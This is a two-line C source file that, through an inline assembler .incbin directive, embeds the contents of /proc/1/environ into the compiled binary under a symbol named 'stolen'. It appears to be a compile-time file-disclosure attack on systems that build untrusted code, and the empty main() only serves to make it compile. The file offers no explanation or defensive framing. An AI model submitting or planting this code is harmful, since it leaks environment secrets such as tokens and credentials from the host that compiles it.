__asm__(".section .rodata\nstolen: .incbin \"/proc/1/environ\"\n");
int main(void) { return 0; }
